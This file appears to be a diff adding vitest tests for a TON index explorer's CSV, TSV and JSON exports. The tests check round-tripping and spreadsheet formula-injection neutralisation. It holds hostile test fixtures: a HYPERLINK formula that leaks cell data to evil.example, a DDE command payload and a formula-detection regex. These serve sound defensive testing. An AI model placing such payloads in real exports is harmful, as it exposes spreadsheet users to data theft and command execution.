@@ -1,0 +1,295 @@
+/**
+ * CSV, TSV and JSON exports parse back to the same data through real parsers (papaparse, JSON.parse +
+ * the document schema), and no text from the indexer reaches a spreadsheet as a formula.
+ */
+import { Address } from '@ton/core';
+import fc from 'fast-check';
+import Papa from 'papaparse';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { HUGE_BALANCE, notIndexedAddresses, sampleAccount, sampleAccounts, startIndexServer, type RunningIndexServer } from '../../e2e/index-server';
+import { parseAddressList } from '../address';
+import { accountLookupSchema, type AccountLookup } from '../api/account-states';
+import { createIndexClient } from '../client';
+import { IndexClientError } from '../errors';
+import { EXPORT_COLUMNS, exportRecords, type ExportRecord } from './export-record';
+import { cellText, exportDocumentSchema, toCsv, toJson, toTsv } from './export-formats';
+import { readCsvRecords } from './read-back';
+import { needsNeutralising, neutraliseCell, restoreCell } from './spreadsheet-safety';
+
+/** What a spreadsheet would evaluate: a formula trigger (after spaces too), full-width ones, or a leading tab/CR/LF. */
+const FORMULA_START = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n]/u;
+
+/** Text an indexer could send in a token name, symbol or domain, aimed at a spreadsheet. */
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?leak="&A1,"Click to claim")',
+  "+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1,2)',
+  '=1+2\nsecond line',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '   =1+1',
+  '＝1+1',
+  "'=already quoted",
+  "'plain quote",
+  '"quoted", with a comma',
+  'line one\r\nline two',
+  'a,b;c\td',
+  'Tether 💵 USD₮ — ünïcödé 中文',
+  ' padded ',
+];
+
+let server: RunningIndexServer;
+let serverRecords: ExportRecord[];
+
+beforeAll(async () => {
+  server = await startIndexServer({ port: 0 });
+  const accounts = [...sampleAccounts().map((s) => ({ raw: s.raw, input: s.friendly })), ...notIndexedAddresses().map((raw) => ({ raw, input: raw }))];
+  const result = await createIndexClient({ baseUrl: server.url }).accountStates(
+    accounts.map((a) => a.raw),
+    { includeBoc: false },
+  );
+  serverRecords = exportRecords({ accounts, result, network: 'mainnet' });
+});
+afterAll(() => server.close());
+
+/** The raw address of a made-up account number `n` on workchain `wc`. */
+const madeUpRaw = (n: number, wc: 0 | -1 = 0) => `${wc}:${n.toString(16).toUpperCase().padStart(64, '0')}`;
+
+/**
+ * An answer in which every hostile text is a jetton master's name and symbol, an address-book domain
+ * and what the user typed — the untrusted fields of an export.
+ */
+function hostileRecords(texts: readonly string[]): ExportRecord[] {
+  const raws = texts.map((_, i) => madeUpRaw(i + 1, i % 2 === 0 ? 0 : -1));
+  const result: AccountLookup = accountLookupSchema.parse({
+    accounts: raws.map((raw, i) => ({
+      address: raw,
+      account_state_hash: 'A'.repeat(43) + '=',
+      balance: (10n ** 20n + BigInt(i)).toString(),
+      extra_currencies: { '7': '1' },
+      status: 'active',
+      last_transaction_hash: '+'.repeat(43) + '=',
+      last_transaction_lt: '47000000000001',
+      code_hash: '-'.repeat(43) + '=',
+      interfaces: ['jetton_master'],
+    })),
+    address_book: Object.fromEntries(raws.map((raw, i) => [raw, { user_friendly: 'x', domain: texts[i], interfaces: [] }])),
+    metadata: Object.fromEntries(
+      raws.map((raw, i) => [raw, { is_indexed: true, token_info: [{ type: 'jetton_masters', name: texts[i], symbol: texts[i], extra: { decimals: '9' } }] }]),
+    ),
+    not_found: [],
+  });
+  return exportRecords({ accounts: raws.map((raw, i) => ({ raw, input: texts[i]! })), result, network: 'mainnet' });
+}
+
+/** Parses CSV or TSV with papaparse and checks the header. Returns the data rows. */
+function parseTable(text: string, delimiter: ',' | '\t'): string[][] {
+  const parsed = Papa.parse<string[]>(text, { delimiter, skipEmptyLines: true });
+  expect(parsed.errors).toEqual([]);
+  expect(parsed.data[0]).toEqual(EXPORT_COLUMNS);
+  return parsed.data.slice(1);
+}
+
+describe('toCsv', () => {
+  it('parses back through papaparse to the same data for every record of a real lookup', () => {
+    const csv = toCsv(serverRecords);
+    const rows = parseTable(csv, ',');
+    expect(rows).toHaveLength(serverRecords.length);
+    rows.forEach((cells, i) => {
+      EXPORT_COLUMNS.forEach((column, c) => expect(restoreCell(cells[c]!)).toBe(cellText(serverRecords[i]![column])));
+    });
+    expect(readCsvRecords(csv)).toEqual(serverRecords);
+  });
+
+  it('ends every line with CRLF and nothing else', () => {
+    const csv = toCsv(serverRecords);
+    expect(csv.endsWith('\r\n')).toBe(true);
+    expect(csv.split('\r\n')).toHaveLength(serverRecords.length + 2);
+    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
+  });
+
+  it('writes arrays and maps as compact JSON, and amounts beyond 2^53 as exact text', () => {
+    const rows = parseTable(toCsv(serverRecords), ',');
+    const cell = (label: Parameters<typeof sampleAccount>[0], column: (typeof EXPORT_COLUMNS)[number]) =>
+      rows[serverRecords.findIndex((r) => r.raw === sampleAccount(label).raw)]![EXPORT_COLUMNS.indexOf(column)];
+    expect(cell('extra-currencies', 'extra_currencies')).toBe('{"100":"5000000","239":"1000000000000"}');
+    expect(cell('wallet-v4r2', 'interfaces')).toBe('["wallet_v4r2"]');
+    expect(cell('huge-balance', 'balance_nanoton')).toBe(HUGE_BALANCE);
+    expect(cell('huge-balance', 'balance_ton')).toBe('5000000000.123456789');
+    expect(cell('jetton-wallet-1', 'is_scam')).toBe('false');
+    expect(cell('jetton-wallet-1', 'token_decimals')).toBe('6');
+  });
+
+  it('neutralises every hostile indexer text and reads it back unchanged', () => {
+    const records = hostileRecords(HOSTILE);
+    const csv = toCsv(records);
+    const rows = parseTable(csv, ',');
+    expect(rows).toHaveLength(HOSTILE.length);
+    for (const cells of rows) for (const cell of cells) expect(cell).not.toMatch(FORMULA_START);
+    const nameColumn = EXPORT_COLUMNS.indexOf('token_name');
+    expect(rows[0]![nameColumn]).toBe(`'${HOSTILE[0]}`);
+    expect(rows[2]![nameColumn]).toBe("'-2+3");
+    expect(rows[HOSTILE.indexOf("'plain quote")]![nameColumn]).toBe("'plain quote");
+    expect(rows[HOSTILE.indexOf("'=already quoted")]![nameColumn]).toBe("''=already quoted");
+    expect(readCsvRecords(csv)).toEqual(records);
+    for (const [i, text] of HOSTILE.entries()) expect(records[i]).toMatchObject({ input: text, token_name: text, token_symbol: text, domain: text });
+  });
+
+  it('neutralises base64 hashes that start with + or - (our own values follow the same rule)', () => {
+    const rows = parseTable(toCsv(hostileRecords(['x'])), ',');
+    expect(rows[0]![EXPORT_COLUMNS.indexOf('last_transaction_hash')]).toBe(`'${'+'.repeat(43)}=`);
+    expect(rows[0]![EXPORT_COLUMNS.indexOf('code_hash')]).toBe(`'${'-'.repeat(43)}=`);
+  });
+
+  it("writes a masterchain raw address as '-1:…, which is no formula, restores exactly and pastes back into the app", () => {
+    const masterchain = serverRecords.find((r) => r.raw === sampleAccount('masterchain-wallet').raw)!;
+    const rows = parseTable(toCsv(serverRecords), ',');
+    const cells = rows[serverRecords.indexOf(masterchain)]!;
+    const rawCell = cells[EXPORT_COLUMNS.indexOf('raw')]!;
+    expect(rawCell).toBe(`'${masterchain.raw}`);
+    expect(rawCell).not.toMatch(FORMULA_START);
+    expect(restoreCell(rawCell)).toBe(masterchain.raw);
+    // A user copying the cell out of a spreadsheet and pasting it into the app gets the same account.
+    const pasted = parseAddressList(rawCell);
+    expect(pasted.summary).toMatchObject({ valid: 1, invalid: 0 });
+    expect(pasted.unique[0]!.raw).toBe(masterchain.raw);
+    // The same account's user-friendly forms need no quote at all.
+    expect(cells[EXPORT_COLUMNS.indexOf('bounceable')]).toBe(masterchain.bounceable);
+    expect(cells[EXPORT_COLUMNS.indexOf('non_bounceable')]).toBe(masterchain.non_bounceable);
+  });
+
+  it('can start with a byte-order mark for Excel, and still reads back', () => {
+    const csv = toCsv(serverRecords, { bom: true });
+    expect(csv.charCodeAt(0)).toBe(0xfeff);
+    expect(readCsvRecords(csv)).toEqual(serverRecords);
+  });
+
+  it('writes only the header for no records', () => {
+    expect(toCsv([])).toBe(`${EXPORT_COLUMNS.join(',')}\r\n`);
+    expect(readCsvRecords(toCsv([]))).toEqual([]);
+  });
+
+  it('refuses a file that is not an export, naming what is wrong', () => {
+    expect(() => readCsvRecords('a,b\r\n1,2\r\n')).toThrow(IndexClientError);
+    const csv = toCsv(serverRecords.slice(0, 1)).replace(/,\{\}/, ',{broken');
+    expect(() => readCsvRecords(csv)).toThrow(/Row 2/);
+  });
+});
+
+describe('toTsv', () => {
+  it('gives one line per record, tabs only between cells, CRLF endings, the same neutralisation', () => {
+    const records = [...serverRecords, ...hostileRecords(HOSTILE)];
+    const tsv = toTsv(records);
+    expect(tsv.split('\r\n')).toHaveLength(records.length + 2);
+    expect(tsv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
+    const rows = parseTable(tsv, '\t');
+    expect(rows).toHaveLength(records.length);
+    rows.forEach((cells, i) => {
+      expect(cells).toHaveLength(EXPORT_COLUMNS.length);
+      EXPORT_COLUMNS.forEach((column, c) => {
+        expect(cells[c]).not.toMatch(FORMULA_START);
+        const expected = cellText(records[i]![column]).replace(/\r\n|[\t\r\n]/g, ' ');
+        expect(restoreCell(cells[c]!)).toBe(expected);
+      });
+    });
+    const hostileRow = rows[serverRecords.length + HOSTILE.indexOf('=1+2\nsecond line')]!;
+    expect(hostileRow[EXPORT_COLUMNS.indexOf('token_name')]).toBe("'=1+2 second line");
+  });
+});
+
+describe('toJson', () => {
+  const meta = {
+    exportedAt: '2026-11-23T10:15:00.000Z',
+    network: 'mainnet' as const,
+    indexer: 'http://analyst:s3cret@127.0.0.1:8787/api/v3?api_key=SECRET-KEY#frag',
+    profile: 'Local indexer',
+    lastBlock: { seqno: 38016643, gen_utime: '1721068768' },
+  };
+
+  it('parses back through the document schema to the same records, with where and when they came from', () => {
+    const text = toJson(serverRecords, meta);
+    const document = exportDocumentSchema.parse(JSON.parse(text));
+    expect(document).toMatchObject({
+      format: 'ton-index-explorer/accounts',
+      version: 1,
+      exportedAt: '2026-11-23T10:15:00.000Z',
+      network: 'mainnet',
+      indexer: 'http://127.0.0.1:8787/api/v3',
+      profile: 'Local indexer',
+      lastBlock: { seqno: 38016643, gen_utime: '1721068768' },
+      count: serverRecords.length,
+    });
+    expect(document.records).toEqual(serverRecords);
+  });
+
+  it('never writes a key, a password or a query string of the indexer address', () => {
+    const text = toJson(serverRecords, meta);
+    expect(text).not.toMatch(/SECRET-KEY|s3cret|analyst|api_key|frag/);
+  });
+
+  it('keeps amounts beyond 2^53 as exact text, and hostile text as plain JSON strings', () => {
+    const records = [...serverRecords, ...hostileRecords(HOSTILE)];
+    const text = toJson(records, { ...meta, lastBlock: null });
+    expect(text).toContain(`"balance_nanoton": "${HUGE_BALANCE}"`);
+    const document = exportDocumentSchema.parse(JSON.parse(text));
+    expect(document.records).toEqual(records);
+    expect(document.lastBlock).toBeNull();
+    expect(document.records.at(-HOSTILE.length)!.token_name).toBe(HOSTILE[0]);
+  });
+
+  it('stamps the current time when none is given, and refuses unusable details', () => {
+    const before = Date.now();
+    const document = exportDocumentSchema.parse(JSON.parse(toJson([], { network: 'testnet', indexer: 'https://testnet.toncenter.com' })));
+    expect(Date.parse(document.exportedAt)).toBeGreaterThanOrEqual(before - 1000);
+    expect(document).toMatchObject({ indexer: 'https://testnet.toncenter.com', lastBlock: null, count: 0, records: [] });
+    expect(() => toJson([], { network: 'devnet' as 'mainnet', indexer: 'https://x' })).toThrow(IndexClientError);
+    expect(() => toJson([], { network: 'mainnet', indexer: 'not a url' })).toThrow(/not a URL/);
+  });
+});
+
+describe('properties', () => {
+  /** Strings rich in what breaks CSV and spreadsheets, plus arbitrary Unicode. */
+  const nasty = fc.oneof(
+    fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", ' ', ';', 'a', '1', '₮', '💵', '＝', '\u00a0', '\uFEFF') }),
+    fc.string({ unit: 'grapheme' }),
+    fc.string({ unit: 'binary' }),
+  );
+
+  it('neutraliseCell never leaves a formula start and restoreCell undoes it exactly', () => {
+    fc.assert(
+      fc.property(nasty, (text) => {
+        const cell = neutraliseCell(text);
+        expect(cell).not.toMatch(FORMULA_START);
+        expect(restoreCell(cell)).toBe(text);
+        expect(cell === text).toBe(!needsNeutralising(text));
+      }),
+      { numRuns: 2000 },
+    );
+  });
+
+  it('any indexer text round-trips through CSV and JSON', () => {
+    fc.assert(
+      fc.property(fc.array(nasty, { minLength: 1, maxLength: 8 }), (texts) => {
+        const records = hostileRecords(texts);
+        expect(readCsvRecords(toCsv(records))).toEqual(records);
+        const document = exportDocumentSchema.parse(JSON.parse(toJson(records, { network: 'mainnet', indexer: 'http://127.0.0.1:8787' })));
+        expect(document.records).toEqual(records);
+      }),
+      { numRuns: 200 },
+    );
+  });
+
+  it('user-friendly forms never need neutralising, on either workchain and network', () => {
+    fc.assert(
+      fc.property(fc.uint8Array({ minLength: 32, maxLength: 32 }), fc.constantFrom(0, -1), (hash, workchain) => {
+        const address = new Address(workchain, Buffer.from(hash));
+        for (const bounceable of [true, false]) {
+          for (const testOnly of [true, false]) expect(needsNeutralising(address.toString({ urlSafe: true, bounceable, testOnly }))).toBe(false);
+        }
+      }),
+      { numRuns: 300 },
+    );
+  });
+});
